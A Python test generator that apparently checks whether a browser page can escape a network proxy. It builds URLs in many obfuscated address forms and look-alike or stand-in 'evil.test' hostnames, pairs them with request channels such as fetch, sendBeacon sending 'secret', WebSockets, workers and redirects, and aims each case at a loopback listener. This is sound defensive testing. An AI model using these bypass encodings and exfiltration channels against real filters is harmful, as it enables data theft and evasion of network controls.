"""Ways out of a page, and ways to write where to: each case aims at an address of its own on a listener.

A case has 127.1.x.y for itself, so that a listener on all of 127.0.0.0/8 sees at its socket which case came through, whatever
the request says, and the proxy's refusals name which case was tried.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass
from html import escape
from ipaddress import IPv4Address

FORMS: dict[str, Callable[[IPv4Address, int], str]] = {
    "dotted": lambda ip, port: f"http://{ip}:{port}/",
    "decimal": lambda ip, port: f"http://{int(ip)}:{port}/",
    "hexadecimal": lambda ip, port: f"http://{int(ip):#x}:{port}/",
    "octal": lambda ip, port: "http://" + ".".join(f"0{byte:o}" for byte in ip.packed) + f":{port}/",
    "mixed bases": lambda ip, port: f"http://0x7f.{int(ip) & 0xFFFFFF}:{port}/",
    "three parts": lambda ip, port: f"http://127.1.{int(ip) & 0xFFFF}:{port}/",
    "trailing dot": lambda ip, port: f"http://{ip}.:{port}/",
    "v4-mapped v6": lambda ip, port: f"http://[::ffff:{ip}]:{port}/",
    "v4-mapped, hex": lambda ip, port: f"http://[0:0:0:0:0:FFFF:{int(ip) >> 16:x}:{int(ip) & 0xFFFF:x}]:{port}/",
    "full-width digits": lambda ip, port: "http://" + str(ip).translate(_WIDE) + f":{port}/",
    "ideographic dots": lambda ip, port: "http://" + str(ip).replace(".", "。") + f":{port}/",
    "percent-encoded": lambda ip, port: "http://" + str(ip).replace("1", "%31") + f":{port}/",
    "tabs and lines": lambda ip, port: f"ht\ttp://{str(ip).replace('.', chr(10) + '.', 1)}:{port}/",
    "backslashes": lambda ip, port: f"http:\\\\{ip}:{port}\\",
    "no scheme": lambda ip, port: f"//{ip}:{port}/",
    "too many slashes": lambda ip, port: f"HTTP:////{ip}:{port}/",
    "https": lambda ip, port: f"https://{ip}:{port}/",
    "name": lambda ip, port: f"http://c{int(ip)}.evil.test:{port}/",
    "name, trailing dot": lambda ip, port: f"http://c{int(ip)}.evil.test.:{port}/",
    "name, look-alike": lambda ip, port: f"http://c{int(ip)}.аpp.test:{port}/",  # the first letter is Cyrillic
    "name, this machine": lambda ip, port: f"http://c{int(ip)}.localhost:{port}/",
}
USERINFO: dict[str, Callable[[IPv4Address, int], str]] = {
    "userinfo": lambda ip, port: f"http://app.test:80@{ip}:{port}/",
    "userinfo, encoded": lambda ip, port: f"http://app.test%2F@{ip}:{port}/",
    "userinfo, backslash": lambda ip, port: f"http:\\\\app.test@{ip}:{port}/",
}
"""Forms that only a navigation takes: Chromium itself refuses them to everything else."""
_WIDE = {ord(str(digit)): chr(0xFF10 + digit) for digit in range(10)}

MARKUP: dict[str, str] = {
    "img": '<img src="{u}">',
    "srcset": '<img srcset="{u} 1x">',
    "script": '<script src="{u}"></script>',
    "module": '<script type="module" src="{u}"></script>',
    "stylesheet": '<link rel="stylesheet" href="{u}">',
    "preload": '<link rel="preload" as="image" href="{u}">',
    "prefetch": '<link rel="prefetch" href="{u}">',
    "iframe": '<iframe src="{u}"></iframe>',
    "object": '<object data="{u}"></object>',
    "embed": '<embed src="{u}">',
    "video": '<video src="{u}" preload="auto"></video>',
    "poster": '<video poster="{u}"></video>',
    "audio": '<audio src="{u}" preload="auto"></audio>',
    "image button": '<input type="image" src="{u}">',
    "svg image": '<svg><image href="{u}"/></svg>',
    "meta refresh in a frame": '<iframe srcdoc="<meta http-equiv=refresh content=&quot;0;url={u}&quot;>"></iframe>',
}
SCRIPTS: dict[str, str] = {
    "css import": "style('@import url(' + JSON.stringify(u) + ')')",
    "css background": "box('background: url(' + JSON.stringify(u) + ')')",
    "font": "new FontFace('f' + n, 'url(' + JSON.stringify(u) + ')').load().catch(() => 0)",
    "fetch": "fetch(u, { mode: 'no-cors' }).catch(() => 0)",
    "fetch keepalive": "fetch(u, { mode: 'no-cors', method: 'POST', keepalive: true, body: 'x' }).catch(() => 0)",
    "preflight": "fetch(u, { method: 'PUT', headers: { 'X-A': '1' } }).catch(() => 0)",
    "XMLHttpRequest": "xhr(u)",
    "beacon": "navigator.sendBeacon(u, 'secret')",
    "EventSource": "new EventSource(u)",
    "WebSocket": "new WebSocket(new URL(u, location).href.replace(/^http/, 'ws'))",
    "import": "import(u).catch(() => 0)",
    "worker's fetch": "worker('fetch(' + JSON.stringify(new URL(u, location).href) + ', { mode: \"no-cors\" }).catch(() => 0)')",
    "worker's import": "worker('importScripts(' + JSON.stringify(new URL(u, location).href) + ')')",
    "form in a frame": "form(u, 'GET')",
    "form post in a frame": "form(u, 'POST')",
}
STYLED = ("css import", "css background", "font")
"""Written in CSS, which has no use for tabs and lines."""
NAVIGATIONS: dict[str, str] = {
    "window.open": "open(u)",
    "link in a new tab": "link(u, false)",
    "download link": "link(u, true)",
    "location": "open('/go?how=location&to=' + encodeURIComponent(u))",
    "meta refresh": "open('/go?how=meta&to=' + encodeURIComponent(u))",
    "Refresh header": "open('/go?how=refresh&to=' + encodeURIComponent(u))",
    "form post": "open('/go?how=post&to=' + encodeURIComponent(u))",
    "redirect": "open('/go?how=302&to=' + encodeURIComponent(u))",
}
REDIRECTS = (301, 302, 303, 307, 308)
REDIRECTED = ("img", "script", "stylesheet", "iframe", "fetch", "fetch keepalive", "form post in a frame")
_HELPERS = """
const style = (text) => document.head.append(Object.assign(document.createElement('style'), { textContent: text }));
const box = (text) => document.body.append(Object.assign(document.createElement('div'), { style: text, textContent: '.' }));
const xhr = (u) => { const x = new XMLHttpRequest(); x.open('GET', u); x.send(); };
const worker = (text) => new Worker(URL.createObjectURL(new Blob([text])));
const frame = () => { const f = document.body.appendChild(document.createElement('iframe')); f.name = 'f' + Math.random(); return f.name; };
const form = (u, method) => { const f = document.createElement('form'); f.action = u; f.method = method; f.target = frame();
  f.append(Object.assign(document.createElement('input'), { name: 'a', value: 'b' })); document.body.append(f); f.submit(); };
const link = (u, save) => { const a = document.createElement('a'); a.href = u; a.target = '_blank'; if (save) a.download = '';
  document.body.append(a); a.click(); };
"""


@dataclass(frozen=True, slots=True)
class Case:
    """One try to get out."""

    number: int
    group: str
    how: str
    form: str
    url: str

    @property
    def address(self) -> IPv4Address:
        """Its own address on the listener."""
        return address(self.number)


def address(number: int) -> IPv4Address:
    """Return the listener's address of a case."""
    return IPv4Address("127.1.0.0") + 256 + number


def cases(port: int) -> list[Case]:
    """Return every case, aimed at a listener on this port."""
    plans: list[tuple[str, str, str, Callable[[IPv4Address, int], str]]] = []
    ways = list(MARKUP) + list(SCRIPTS)
    for place, (form, write) in enumerate(FORMS.items()):
        plans += [
            ("subresource", how, form, write)
            for how in ways[place % 2 :: 2]
            if not (form == "tabs and lines" and how in STYLED)
        ]
    for form in ("dotted", "decimal", "v4-mapped v6", "https", "name", "name, look-alike"):
        plans += [("navigation", how, form, FORMS[form]) for how in NAVIGATIONS]
    for form, write in USERINFO.items():
        plans += [("navigation", how, form, write) for how in ("window.open", "location", "redirect")]
    for code in REDIRECTS:
        for hops in (1, 3):
            plans += [("redirect", how, f"{code}, {hops} hops", _redirected(code, hops)) for how in REDIRECTED]
    return [
        Case(number, group, how, form, write(address(number), port))
        for number, (group, how, form, write) in enumerate(plans)
    ]


def page(some: list[Case]) -> str:
    """Write a page that tries all of these."""
    markup = "\n".join(MARKUP[case.how].replace("{u}", escape(case.url)) for case in some if case.how in MARKUP)
    scripts = {**SCRIPTS, **NAVIGATIONS}
    calls = "\n".join(
        f"try {{ ((u, n) => {scripts[case.how]})({json.dumps(case.url)}, {case.number}) }} catch (e) {{ console.log(e) }}"
        for case in some
        if case.how in scripts
    )
    return f"<!doctype html><meta charset=utf-8><title>tricks</title><body>{markup}<script>{_HELPERS}{calls}</script>"


def _redirected(code: int, hops: int) -> Callable[[IPv4Address, int], str]:
    """Begin on the app and end on the listener."""
    return lambda ip, port: f"/hop?code={code}&left={hops - 1}&to=http://{ip}:{port}/"
